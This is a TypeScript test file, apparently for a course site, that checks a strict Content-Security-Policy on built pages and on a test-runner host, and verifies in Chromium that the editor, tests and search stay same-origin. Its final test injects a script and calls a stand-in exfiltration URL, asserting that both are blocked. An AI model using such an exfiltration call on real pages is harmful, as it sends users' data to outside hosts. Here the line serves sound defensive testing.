/**
 * Quality gate: Content-Security-Policy and privacy (helper Q, issue 6 items 3 and 5).
 * - every built page carries the policy before its first script, with a hash for each inline script
 *   and no 'unsafe-inline' / 'unsafe-eval' for scripts, and no network beyond the site;
 * - in Chromium, no CSP violation and no request that leaves the site while Monaco type-checks, the
 *   tests run and the search is used (that every page loads without either is checked by
 *   quality-pages.test.ts, which loads each page once for all its checks);
 * - the policy is really enforced (an injected inline script is blocked).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { baseUrl, distDir, exercise, launch, newPage, openEditor, readExerciseFile, setCode } from './helpers.ts';
import { builtPages } from './page-weight.ts';
import { cspViolations, foreign, gotoExercise, recordRequests, runTests, watchCsp } from './quality-helpers.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
});

function directives(policy: string): Map<string, string[]> {
  const m = new Map<string, string[]>();
  for (const d of policy.split(';')) {
    const [k, ...v] = d.trim().split(/\s+/);
    if (k) m.set(k, v);
  }
  return m;
}

describe('the Content-Security-Policy in the built pages', () => {
  it('is on every page, before any script, hashes every inline script, allows no inline/eval script and no foreign connection', () => {
    const pages = builtPages(distDir());
    expect(pages.length).toBeGreaterThan(10);
    const problems: string[] = [];
    for (const p of pages) {
      const html = fs.readFileSync(path.join(distDir(), p), 'utf8');
      const metas = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/g)];
      if (metas.length !== 1) {
        problems.push(`${p}: ${metas.length} CSP meta tags`);
        continue;
      }
      const at = metas[0]!.index!;
      const firstScript = html.search(/<script\b/);
      if (firstScript !== -1 && firstScript < at) problems.push(`${p}: a <script> comes before the CSP meta tag`);
      if (at > html.indexOf('</head>')) problems.push(`${p}: CSP meta tag outside <head>`);
      const d = directives(metas[0]![1]!);
      const script = d.get('script-src') ?? [];
      if (!script.includes("'self'")) problems.push(`${p}: script-src lacks 'self'`);
      for (const bad of ["'unsafe-inline'", "'unsafe-eval'", '*', 'http:', 'https:', 'data:']) {
        if (script.includes(bad)) problems.push(`${p}: script-src allows ${bad}`);
      }
      if ((d.get('connect-src') ?? []).join(' ') !== "'self'") problems.push(`${p}: connect-src is ${d.get('connect-src')?.join(' ')}`);
      if ((d.get('default-src') ?? []).join(' ') !== "'self'") problems.push(`${p}: default-src is ${d.get('default-src')?.join(' ')}`);
      if ((d.get('object-src') ?? []).join(' ') !== "'none'") problems.push(`${p}: object-src is not 'none'`);
      // independent recomputation of the hashes of the page's executable inline scripts
      for (const m of html.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)) {
        if (/\bsrc=/.test(m[1]!) || /type="application\/(ld\+)?json"/.test(m[1]!)) continue;
        const h = `'sha256-${createHash('sha256').update(m[2]!).digest('base64')}'`;
        if (!script.includes(h)) problems.push(`${p}: inline script not hashed: ${m[2]!.trim().slice(0, 60)}…`);
      }
      // inline event handlers would be blocked: there must be none
      const handler = /<[a-z][^>]*\son[a-z]+="/i.exec(html);
      if (handler) problems.push(`${p}: inline event handler ${handler[0].slice(0, 80)}`);
    }
    expect(problems).toEqual([]);
  });

  it('public/_headers is deployed with the policy, frame-ancestors and nosniff for hosts that read it', () => {
    const headers = fs.readFileSync(path.join(distDir(), '_headers'), 'utf8');
    // frame-ancestors 'self': the runner host is a same-origin iframe of our own pages; no other site may frame us
    expect(headers).toMatch(/^\/\*\n\s+Content-Security-Policy: .*connect-src 'self'.*frame-ancestors 'self'/m);
    expect(headers).not.toMatch(/frame-ancestors[^;\n]*(\*|https?:)/);
    expect(headers).toMatch(/X-Content-Type-Options: nosniff/);
  });
});

describe('the test runner host (src/grading/browser/vite-plugin.ts)', () => {
  it('ships as a hashed asset with its own policy — no connections, no script URLs — untouched by the page policy rewrite', () => {
    const assets = fs.readdirSync(path.join(distDir(), '_astro'));
    const hosts = assets.filter((f) => /^grader-runner[.-].*\.html$/.test(f));
    expect(hosts).toHaveLength(1);
    expect(assets.some((f) => /^grader-worker[.-].*\.js$/.test(f))).toBe(true);
    const html = fs.readFileSync(path.join(distDir(), '_astro', hosts[0]!), 'utf8');
    const metas = [...html.matchAll(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/g)];
    expect(metas).toHaveLength(1);
    const d = directives(metas[0]![1]!);
    expect(d.get('default-src')).toEqual(["'none'"]);
    expect(d.get('connect-src')).toEqual(["'none'"]);
    expect(d.get('worker-src')).toEqual(['blob:']);
    const script = d.get('script-src') ?? [];
    expect(script.filter((x) => !x.startsWith("'sha256-"))).toEqual(["'unsafe-eval'"]);
    const inline = /<script>([\s\S]*?)<\/script>/.exec(html)![1]!;
    expect(script).toContain(`'sha256-${createHash('sha256').update(inline).digest('base64')}'`);
  });
});

describe('in Chromium', () => {
  it('Monaco, its TypeScript worker, the test runner and the search work under the policy, all same-origin', async () => {
    const ID = 'early-abort';
    const { context, page, errors } = await newPage(browser);
    await watchCsp(context);
    const urls = recordRequests(context);
    const origin = new URL(baseUrl()).origin;
    await gotoExercise(page, baseUrl(), ID);
    await openEditor(page, ID);
    expect(await exercise(page, ID).getAttribute('data-editor')).toBe('monaco');
    // the TypeScript worker answers (a type error is flagged)
    await setCode(page, ID, `import { pte_none } from 'collapse-lab/engine';\nexport const x: boolean = pte_none("slot 3");\n`);
    await page.waitForFunction(
      () => {
        const w = window as unknown as { __clMonaco: { editor: { getModelMarkers(f: object): { owner: string }[] } } };
        return w.__clMonaco.editor.getModelMarkers({}).some((m) => m.owner === 'typescript');
      },
      undefined,
      { timeout: 45_000 },
    );
    await setCode(page, ID, readExerciseFile(ID, 'solution.ts'));
    const r = await runTests(page, ID);
    expect(r.state).toBe('passed');
    // hints and the reveal diff (lazy chunk)
    await exercise(page, ID).locator('button[data-action="hint"]').click();
    await exercise(page, ID).locator('button[data-action="reveal"]').click();
    await exercise(page, ID).getByRole('button', { name: 'Yes, show the solution' }).click();
    await exercise(page, ID).locator('[data-part="reveal"] pre.cl-diff').waitFor();
    // Starlight's search (Pagefind compiles WebAssembly: 'wasm-unsafe-eval')
    // A production build renders Pagefind's mount point (a dev-mode build renders a notice instead).
    expect(await page.locator('site-search #starlight__search').count(), 'the site must be a production build (Starlight renders no search in dev mode)').toBe(1);
    // Starlight creates the Pagefind UI (and its input) in an idle callback after DOMContentLoaded
    // and enables the button once <site-search> is defined: wait for both before opening.
    await page.waitForFunction(() => customElements.get('site-search') !== undefined);
    await page.locator('site-search #starlight__search input').waitFor({ state: 'attached', timeout: 30_000 });
    const search = page.locator('site-search');
    await search.locator('button[data-open-modal]').click();
    await search.locator('dialog[open]').waitFor({ timeout: 10_000 });
    await search.locator('dialog[open] input').fill('swap');
    await search.locator('dialog[open] .pagefind-ui__result').first().waitFor({ timeout: 30_000 });
    expect(await cspViolations(page)).toEqual([]);
    expect(errors.filter((e) => !/favicon/.test(e))).toEqual([]);
    expect(foreign(urls, origin)).toEqual([]);
    // the worker and Monaco's workers were among the requests (so "all same-origin" covered them)
    expect(urls.some((u) => /worker/i.test(u))).toBe(true);
    await context.close();
  });

  it('is enforced: an injected inline script is blocked and reported', async () => {
    const { context, page } = await newPage(browser);
    await watchCsp(context);
    await page.goto(`${baseUrl()}/04-the-scan/`);
    const ran = await page.evaluate(async () => {
      const s = document.createElement('script');
      s.textContent = 'window.__injected = true';
      document.head.append(s);
      await new Promise((r) => setTimeout(r, 100));
      return (window as unknown as { __injected?: boolean }).__injected === true;
    });
    expect(ran).toBe(false);
    expect((await cspViolations(page)).join('\n')).toMatch(/script-src/);
    // and the page cannot connect elsewhere
    const fetched = await page.evaluate(async () => {
      try {
        await fetch('https://example.org/exfiltrate');
        return 'fetched';
      } catch (e) {
        return String(e);
      }
    });
    expect(fetched).not.toBe('fetched');
    expect((await cspViolations(page)).join('\n')).toMatch(/connect-src blocked https:\/\/example\.org/);
    await context.close();
  });
});
